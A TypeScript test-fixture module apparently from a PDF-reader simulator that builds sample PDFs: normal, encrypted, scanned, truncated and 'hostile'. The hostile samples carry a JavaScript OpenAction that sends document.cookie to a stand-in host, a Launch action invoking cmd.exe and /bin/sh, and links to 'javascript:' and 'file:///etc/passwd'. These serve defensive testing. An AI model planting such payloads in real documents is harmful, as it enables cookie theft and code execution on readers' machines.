// The simulator's PDFs: text ones of one or several pages, and the bad ones a reader must survive
// (a scan with no text, a password, a truncated file, the hostile samples of the PDF.js era:
// JavaScript and launch actions, an embedded file, links to `javascript:` and `file:`). Each is
// built by hand from its file's name and its record, the same bytes every time.

import { createHash } from 'node:crypto';
import { documentPages, heading, type DocumentOwnerText, type DocumentPage } from './document-text';
import { nameHash, pdfHex, pdfStream, pdfString, rc4Security, writePdf, type Rc4Security } from './pdf';

const mediaBox = '[0 0 595 842]';
const producer = '/Producer (Simulador del Directorio de Cultura)';

/** A page's content stream: the heading at 16 pt, then one line every 16 pt at 11 pt. */
function pageContent(page: DocumentPage): string {
  const ops = ['BT', '/F1 16 Tf', '72 770 Td', `${pdfString(page.heading)} Tj`, '/F1 11 Tf', '0 -26 Td'];
  for (const line of page.lines) ops.push(`${pdfString(line)} Tj`, '0 -16 Td');
  ops.push('ET');
  return ops.join('\n');
}

/**
 * Pages of text in Helvetica: object 1 the catalog, 2 the page tree, 3 the font, 4 the document's
 * information, then each page and its content. `security` encrypts the strings and streams.
 */
function textPdf(title: string, pages: readonly DocumentPage[], security?: Rc4Security): Buffer {
  const pageNumber = (index: number): number => 5 + 2 * index;
  const secret = (number: number, text: string): string =>
    security === undefined ? text : security.encrypt(number, Buffer.from(text, 'latin1')).toString('latin1');
  const titleString =
    security === undefined ? pdfString(title) : pdfHex(security.encrypt(4, Buffer.from(title.replace(/[^\u0020-\u00ff]/g, '?'), 'latin1')));
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${pages.map((_, i) => `${pageNumber(i)} 0 R`).join(' ')}] /Count ${pages.length} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    security === undefined ? `<< /Title ${titleString} ${producer} >>` : `<< /Title ${titleString} >>`,
  ];
  pages.forEach((page, i) => {
    objects.push(
      `<< /Type /Page /Parent 2 0 R /MediaBox ${mediaBox} /Resources << /Font << /F1 3 0 R >> >> /Contents ${pageNumber(i) + 1} 0 R >>`,
      pdfStream('', secret(pageNumber(i) + 1, pageContent(page))),
    );
  });
  if (security === undefined) return writePdf(objects, '/Root 1 0 R /Info 4 0 R');
  objects.push(security.dictionary);
  const id = pdfHex(security.id);
  return writePdf(objects, `/Root 1 0 R /Info 4 0 R /Encrypt ${objects.length} 0 R /ID [${id} ${id}]`);
}

/** The PDF a text document's name stands for: its pages as `documentPages` tells them. */
export function pdfDocument(file: string, owner: DocumentOwnerText): Buffer {
  return textPdf(heading(file), documentPages(file, owner));
}

/** The user password of `encryptedPdf`: the app never has it, so it must say the document is protected. */
export const encryptedPdfPassword = 'bases2026';

/** The same pages as `pdfDocument`, behind a user password (RC4, 128 bits). */
export function encryptedPdf(file: string, owner: DocumentOwnerText, password = encryptedPdfPassword): Buffer {
  const id = createHash('md5').update(file).digest();
  return textPdf(heading(file), documentPages(file, owner), rc4Security(password, `${password}-propietario`, id));
}

/**
 * A scanned page: one grey image over the whole page (rows of dark bars where a scan's lines of
 * type would be, their lengths from the name) and not one text operator.
 */
export function imageOnlyPdf(file: string): Buffer {
  const width = 119;
  const height = 168;
  const hash = nameHash(file);
  const pixels = Buffer.alloc(width * height, 0xff);
  for (let row = 12, line = 0; row < height - 14; row += 6, line++) {
    const end = width - 12 - ((hash >>> (line % 28)) & 31);
    for (let y = row; y < row + 3; y++) pixels.fill(0x50, y * width + 12, y * width + end);
  }
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox ${mediaBox} /Resources << /XObject << /Im1 5 0 R >> >> /Contents 4 0 R >>`,
    pdfStream('', 'q\n595 0 0 842 0 0 cm\n/Im1 Do\nQ'),
    pdfStream(
      `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceGray /BitsPerComponent 8`,
      pixels.toString('latin1'),
    ),
    `<< /Title ${pdfString(heading(file))} ${producer} >>`,
  ];
  return writePdf(objects, '/Root 1 0 R /Info 6 0 R');
}

/**
 * A download cut short: the header and the start of the catalog, no page, no xref, no trailer.
 * Nothing in it can be recovered, so a reader must end in an error.
 */
export function brokenPdf(file: string, owner: DocumentOwnerText): Buffer {
  const whole = pdfDocument(file, owner);
  const catalog = whole.indexOf('1 0 obj');
  return whole.subarray(0, catalog + '1 0 obj\n<< /Type /Catalog /Pag'.length);
}

/** What a hostile sample tries, each one by itself or all together. */
export type HostileAttack = 'javascript' | 'launch' | 'embedded-file' | 'links';

export const hostileAttacks: readonly HostileAttack[] = ['javascript', 'launch', 'embedded-file', 'links'];

/** Where the script of the JavaScript sample would send its data, and what the launch sample would run. */
export const hostileTargets = { fetch: 'https://exfiltracion.invalid/robo', launch: 'cmd.exe', embedded: 'leeme.txt' } as const;

/** The links of the `links` sample, in the order of their annotations: the page names each. */
export const hostileLinks: readonly (readonly [string, string])[] = [
  ['javascript:app.alert(document.cookie)', 'Enlace con JavaScript'],
  ['file:///etc/passwd', 'Enlace a un archivo del equipo'],
  ['https://www.cultura.gob.ar/', 'Sitio del Ministerio de Cultura'],
];

/** The lines a hostile sample's one page shows, besides its heading. */
export function hostileLines(owner: DocumentOwnerText, attacks: readonly HostileAttack[]): string[] {
  const said: Record<HostileAttack, string[]> = {
    javascript: ['Al abrirse, este documento pide ejecutar JavaScript (un aviso y un envío de datos).'],
    launch: ['Al abrirse, este documento pide ejecutar un programa del equipo.'],
    'embedded-file': [`Este documento lleva adjunto el archivo ${hostileTargets.embedded}.`],
    links: hostileLinks.map(([, text]) => text),
  };
  return [
    `${owner.kind}: ${owner.titulo}`,
    '',
    ...attacks.flatMap((attack) => said[attack]),
    '',
    'Documento de prueba hostil servido por el simulador.',
  ];
}

/**
 * One page of text plus what the samples of the PDF.js era carried: an /OpenAction running
 * JavaScript (app.alert, a fetch outside), a /Launch action, an /EmbeddedFiles name tree with an
 * attached file, link annotations to `javascript:`, `file:` and `https:` addresses.
 */
export function hostilePdf(file: string, owner: DocumentOwnerText, attacks: readonly HostileAttack[] = hostileAttacks): Buffer {
  const lines = hostileLines(owner, attacks);
  const page: DocumentPage = { heading: heading(file), lines };
  const objects: string[] = ['', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '', pdfStream('', pageContent(page))];
  const add = (body: string): number => objects.push(body);
  objects.push('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>'); // 5
  const names: string[] = [];
  const actions: number[] = [];
  if (attacks.includes('javascript')) {
    const script = `app.alert('Documento hostil'); fetch('${hostileTargets.fetch}?c=' + encodeURIComponent(document.cookie));`;
    const action = add(`<< /Type /Action /S /JavaScript /JS ${pdfString(script)} >>`);
    actions.push(action);
    names.push(`/JavaScript << /Names [(abrir) ${action} 0 R] >>`);
  }
  if (attacks.includes('launch'))
    actions.push(
      add(
        `<< /Type /Action /S /Launch /F << /Type /Filespec /F (/bin/sh) >> /Win << /F (${hostileTargets.launch}) /P (/c calc.exe) /O (open) >> /NewWindow true >>`,
      ),
    );
  if (attacks.includes('embedded-file')) {
    const data = `Archivo adjunto a un documento hostil.\n`;
    const stream = add(pdfStream('/Type /EmbeddedFile /Subtype /text#2Fplain', data));
    const spec = add(`<< /Type /Filespec /F (${hostileTargets.embedded}) /UF (${hostileTargets.embedded}) /EF << /F ${stream} 0 R >> >>`);
    names.push(`/EmbeddedFiles << /Names [(${hostileTargets.embedded}) ${spec} 0 R] >>`);
  }
  const annots: number[] = [];
  if (attacks.includes('links')) {
    // Each link covers the line that names it: lines start 26 pt below the heading, 16 pt apart.
    const first = 770 - 26 - 16 * lines.indexOf(hostileLinks[0]?.[1] ?? '');
    hostileLinks.forEach(([uri], n) => {
      const y = first - 16 * n;
      annots.push(
        add(`<< /Type /Annot /Subtype /Link /Rect [72 ${y - 3} 400 ${y + 11}] /Border [0 0 0] /A << /S /URI /URI ${pdfString(uri)} >> >>`),
      );
    });
  }
  // Chained: the first action names the next, as the samples did to run several on opening.
  const chained = actions.map((action, n) =>
    n + 1 < actions.length ? `${objects[action - 1]?.replace(/ >>$/, '')} /Next ${actions[n + 1]} 0 R >>` : objects[action - 1],
  );
  actions.forEach((action, n) => (objects[action - 1] = chained[n] ?? ''));
  const openAction = actions[0] === undefined ? '' : ` /OpenAction ${actions[0]} 0 R`;
  objects[0] = `<< /Type /Catalog /Pages 2 0 R${openAction}${names.length > 0 ? ` /Names << ${names.join(' ')} >>` : ''} >>`;
  objects[2] = `<< /Type /Page /Parent 2 0 R /MediaBox ${mediaBox} /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R${
    annots.length > 0 ? ` /Annots [${annots.map((a) => `${a} 0 R`).join(' ')}]` : ''
  } >>`;
  const info = add(`<< /Title ${pdfString(heading(file))} ${producer} >>`);
  return writePdf(objects, `/Root 1 0 R /Info ${info} 0 R`);
}
